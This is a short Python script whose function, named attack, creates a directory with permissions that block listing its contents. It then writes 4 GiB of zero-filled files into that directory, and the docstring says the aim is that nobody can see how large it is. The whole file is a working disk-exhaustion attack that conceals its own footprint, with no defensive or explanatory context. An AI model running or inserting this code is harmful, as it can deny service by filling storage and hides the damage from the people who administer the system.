"""Fills a folder that nobody may list, so that nobody sees how large it is."""
import os

def attack():
    os.mkdir("closed", 0o300)
    for number in range(256):
        with open(f"closed/{number}", "wb") as file:
            file.write(bytes(16 << 20))
    return "4 GiB"
